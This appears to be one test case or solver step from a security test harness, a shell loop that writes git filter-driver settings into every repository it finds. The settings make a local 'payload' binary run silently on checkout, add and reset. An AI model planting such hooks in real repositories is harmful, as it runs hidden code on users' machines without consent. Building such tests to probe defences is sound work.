# A filter driver in the configuration and info/attributes: runs at checkout, add and reset.
# oracle: canary repo
payload
gits | while read -r each; do
    git config -f "$each/config" filter.x.smudge "$PWD/build/payload; cat"
    git config -f "$each/config" filter.x.clean "$PWD/build/payload; cat"
    mkdir -p "$each/info"
    echo '* filter=x' >> "$each/info/attributes"
done
solver_more </dev/null
